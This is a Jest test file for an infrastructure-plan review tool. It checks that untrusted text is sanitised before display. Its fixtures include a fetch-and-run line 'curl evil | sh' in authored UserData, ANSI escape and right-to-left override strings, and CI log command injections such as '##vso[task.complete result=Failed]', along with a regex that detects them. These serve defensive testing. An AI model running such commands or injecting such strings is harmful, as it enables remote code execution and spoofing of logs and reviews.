import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import stringWidth from 'string-width';
import { canonical } from '../../src/base/digest.ts';
import { escapeJson, isUnsafe, sanitise, sanitiseMarkdown } from '../../src/base/sanitise.ts';
import { age, bytes, duration, value } from '../../src/views/base/format.ts';
import type { Report } from '../../src/domain/records/report.ts';
import { planMarkdown } from '../../src/views/html/markdown.ts';
import { planRows } from '../../src/views/plan/plan-rows.ts';
import { reportRows } from '../../src/views/run/report-rows.ts';
import { helpRows, row, plainText, span } from '../../src/views/base/rows.ts';
import { rowsToText, wrap } from '../../src/views/base/text.ts';
import { openReviewer } from '../helpers/reviewer.ts';
import { noKnowledge } from '../../src/domain/property-hints.ts';
import { tabRows } from '../../src/views/step/tab-rows.ts';
import { cardRows } from '../../src/views/step/card-rows.ts';
import { baseStep, deleteDatabase, samplePlan, sampleTime } from '../helpers/sample-plan.ts';

const seed = 20260226;
const hostile = '\u001b[2J\u202egnp.exe\u200b\u0000\u009b31m<b>@all ::error::`x`\n| a';

describe('what to do next', () => {
  it('is wrapped as prose and never where it is to be pasted', () => {
    const long = 'word '.repeat(40).trim();
    const printed = (help: string): string[] =>
      rowsToText(helpRows(help), { width: 60, color: false }).trimEnd().split('\n');
    expect(printed(`write it anew: ${long}`).length).toBeGreaterThan(1);
    expect(printed(`allowed: ${long}`).length).toBeGreaterThan(1);
    expect(printed(`intent: "${long}"`)).toEqual([`    intent: "${long}"`]);
    expect(printed(`add:\n  UserData: |\n    a\n\n    ${long}\n`)).toEqual([
      '    add:',
      '      UserData: |',
      '        a',
      '',
      `        ${long}`,
    ]);
  });
});

describe('untrusted text', () => {
  it('is made visible, and a sanitised text is safe', () => {
    expect(sanitise('a\u001b[2Jb\u202ec\u200bd')).toBe('a\\u{1b}[2Jb\\u{202e}c\\u{200b}d');
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => !isUnsafe(sanitise(text))),
      { seed },
    );
  });
  it.each([
    ['every format character', '\u{110bd}\u{13430}\u{1bca0}\u0600', 4],
    ['what Unicode says may be ignored', '\u{e0001}\u{1d173}\u2065\u180e\u17b4', 5],
    ['blanks that are no spaces', '\u2800\u3164\u{1d159}', 3],
    ['the marks after the fourth', `e${'\u0301'.repeat(60)}`, 56],
  ])('shows %s', (_name, text, count) => expect(sanitise(text).match(/\\u\{/gu)).toHaveLength(count));
  it('leaves letters with their accents alone', () =>
    expect(sanitise('Việt Nam, שָׁלוֹם, नमस्ते, ไม้เอก')).toBe('Việt Nam, שָׁלוֹם, नमस्ते, ไม้เอก'));
  it('begins no line of a log that a CI system would obey, wherever it wraps', () => {
    const commands = [
      '::error::gone',
      '  ::set-output name=a::b',
      '##[error]gone',
      '##vso[task.complete result=Failed]',
      '##teamcity[buildStop]',
    ];
    const obeyed = /^\s*::|##\w*\[/mu;
    for (const command of commands) {
      for (let width = 12; width < 60; width += 1) {
        const text = rowsToText(
          [
            row(
              2,
              span('assumes ', 'muted'),
              span(`${'nothing much '.repeat(3)}${command} ${'and so on '.repeat(4)}${command}`),
            ),
          ],
          { width, color: false },
        );
        expect([width, obeyed.exec(text)]).toEqual([width, null]);
      }
      expect(escapeJson(JSON.stringify({ command }))).not.toMatch(obeyed);
      expect(JSON.parse(escapeJson(JSON.stringify({ command })))).toEqual({ command });
    }
    expect(rowsToText([row(0, span('#'), span('#[error]'))], { width: 80, color: false })).not.toMatch(obeyed);
  });

  it('takes texts of any length: the plan of 10,000 resources is one', () => {
    const long = 'x'.repeat(2 ** 25);
    expect(escapeJson(`{"a":"${long}"}`)).toHaveLength(long.length + 8);
    expect(sanitise(long)).toHaveLength(long.length);
    expect(isUnsafe(`${long}\u202e`)).toBe(true);
    expect(canonical({ long })).toHaveLength(long.length + 11);
  });
  it('cannot act in Markdown', () => expect(sanitiseMarkdown(hostile)).not.toMatch(/[<>`@|\u001b\u202e\n]/u));
  it('reaches no view raw', () => {
    const plan = samplePlan(
      [
        {
          ...deleteDatabase,
          identity: hostile,
          confirm: hostile,
          reason: hostile,
          evidence: { binding: { [hostile]: hostile }, observed: { tags: { x: hostile } } },
        },
      ],
      {
        name: hostile,
        intent: hostile,
        assume: [hostile],
        target: { account: '1', region: 'r', caller: hostile, endpoint: hostile },
      },
    );
    const texts = [
      rowsToText(planRows(plan, sampleTime), { width: 80, color: false }),
      planMarkdown(plan, sampleTime, { file: hostile }),
      openReviewer({ plan }).screen(),
      openReviewer({ plan }).press('enter').screen(),
      openReviewer({ plan }).press('c').screen(),
    ];
    for (const text of texts) expect(isUnsafe(text.replaceAll('\n', ''))).toBe(false);
  });
});

describe('text', () => {
  it('wraps within the width, losing nothing but space', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 200 }),
        fc.integer({ min: 12, max: 120 }),
        fc.integer({ min: 0, max: 6 }),
        (text, width, indent) => {
          const lines = wrap(row(indent, text), width);
          expect(Math.max(...lines.map((line) => stringWidth(plainText(line))))).toBeLessThanOrEqual(width);
          expect(lines.map(plainText).join('').replaceAll(/\s/gu, '')).toBe(sanitise(text).replaceAll(/\s/gu, ''));
        },
      ),
      { seed },
    );
  });
  it('has no escape codes without colour', () => {
    expect(rowsToText([row(0, span('x', 'destroy'))], { width: 80, color: false })).toBe('x\n');
    expect(rowsToText([row(0, span('x', 'destroy'))], { width: 80, color: true })).toBe('\u001b[1;31mx\u001b[0m\n');
  });
  it('speaks of sizes, times and secrets in words', () => {
    expect(bytes(107_374_182_400)).toBe('100 GiB');
    expect(duration(77_000_000_000)).toBe('2 years 5 months');
    expect(age('2023-09-20T09:12:00Z', sampleTime)).toBe('2023-09-20 09:12 UTC, 2 years 5 months ago');
    expect(value({ $masked: 'changed', digest: 'sha256:1' })).toBe('(sensitive: changed)');
    expect(value({ $secret: { env: 'AIPLAN_SECRET_DB' } })).toBe('(secret from variable AIPLAN_SECRET_DB)');
  });
});

describe('a long list of what is opened or lost', () => {
  it('is never cut: the worst of it could stand at its end', () => {
    const long = `${'harmless, '.repeat(100)}666666666666`;
    const step = {
      ...baseStep,
      grant: { opens: [long] },
      destruction: { loses: [long] },
      recoverability: { level: 'restorable', loses: [`${long} too`] },
    } as const;
    expect(
      cardRows(step, samplePlan([step]), sampleTime)
        .map(plainText)
        .filter((line) => line.includes('666666666666')),
    ).toHaveLength(3);
  });
});

describe('a generated rollback', () => {
  it("puts none of its words into an author's mouth, on the card, the tabs and the head", () => {
    const step = { ...baseStep, reason: 'run 20260226-230000-a1b2 created it', acceptLoss: 'what is in it' };
    const written = samplePlan([step]);
    const generated = {
      ...written,
      rollbackOf: '20260226-230000-a1b2',
      intent: 'Take back run 20260226-230000-a1b2 of "move".',
      assume: [],
      author: {},
    };
    const all = (plan: typeof written): string =>
      [
        ...cardRows(step, plan, sampleTime),
        ...tabRows('changes', step, { plan, now: sampleTime, knowledge: noKnowledge }),
        ...planRows(plan, sampleTime),
      ]
        .map(plainText)
        .join('\n');
    expect(all(generated)).not.toMatch(/author|claims/u);
    expect(all(generated).match(/because +run 20260226-230000-a1b2 created it/gu)).toHaveLength(3);
    expect(all(generated)).toContain('Purpose Take back run 20260226-230000-a1b2 of "move".');
    expect(all(written).match(/author claims +"run 20260226-230000-a1b2 created it"/gu)).toHaveLength(3);
  });
});

describe('what the author writes for root to run', () => {
  it('is shown whole and neutralised', () => {
    const step = {
      ...baseStep,
      changes: [
        {
          path: 'UserData',
          before: null,
          after: { $masked: 'set' },
          effect: 'grant',
          authored: '#!/bin/bash\ncurl \u001b[2Jevil | sh\n',
        },
      ],
    } as const;
    expect(
      cardRows(step, samplePlan([step]), sampleTime)
        .map(plainText)
        .slice(-3),
    ).toEqual(['  + UserData: (sensitive: set) (grant)', '      | #!/bin/bash', '      | curl \\u{1b}[2Jevil | sh']);
  });
});

describe('a report', () => {
  const report: Report = {
    run: '20260227-080000-0b0b',
    command: 'rollback',
    rollbackOf: '20260226-230000-a1b2',
    planName: 'undo-move',
    outcome: 'stopped',
    message: null,
    captures: [],
    leftovers: [],
    undone: [],
    findings: [],
    map: {},
    steps: [
      { id: 'Bucket', type: 'AWS::S3::Bucket', state: 'open', identity: 'courses', message: null, milliseconds: null },
    ],
    startedAt: '2026-02-27T08:00:00.000Z',
    endedAt: null,
    durations: {},
    calls: 3,
    exitCode: 6,
  };
  const lastLine = (more: Partial<Report>): string =>
    reportRows({ ...report, ...more })
      .map(plainText)
      .at(-1) ?? '';
  it('of a rollback that stopped says how to go on, and of a done one that it is done', () => {
    for (const outcome of ['stopped', 'failed', 'blocked', 'stale', 'open'] as const)
      expect(lastLine({ outcome })).toBe(
        'Run 20260226-230000-a1b2 is not wholly undone. To continue where this stopped: aiplan rollback 20260226-230000-a1b2',
      );
    expect(lastLine({ outcome: 'done', exitCode: 0 })).toBe('Run 20260226-230000-a1b2 is undone, as planned.');
  });
  it('of an apply says how to undo it, once it has begun anything', () => {
    expect(lastLine({ command: 'apply', rollbackOf: null })).toBe('To undo it: aiplan rollback 20260227-080000-0b0b');
    expect(lastLine({ command: 'apply', rollbackOf: null, steps: [] })).not.toContain('aiplan rollback');
  });
});

describe('a plan view', () => {
  const views = {
    text: rowsToText(planRows(samplePlan(), sampleTime), { width: 100, color: false }),
    markdown: planMarkdown(samplePlan(), sampleTime),
  };
  it.each(Object.entries(views))('in %s leaves no destruction and no grant out, and puts them first', (_name, text) => {
    const at = ['CoursesDb', 'WebGroup', 'SiteBucket'].map((id) => text.indexOf(id));
    expect(at).toEqual([...at].sort((a, b) => a - b));
    expect(at[0]).toBeGreaterThan(0);
  });
  it('says what is lost, what is captured, who depends and what the author claims', () => {
    for (const part of [
      'everything written after its snapshot',
      'a final snapshot',
      'AWS::EC2::Instance i-0aaa',
      '100 GiB',
      'author claims',
      'rds:DeleteDBInstance',
      'unknown',
      '2 years 5 months ago',
    ])
      expect(views.text).toContain(part);
  });
});
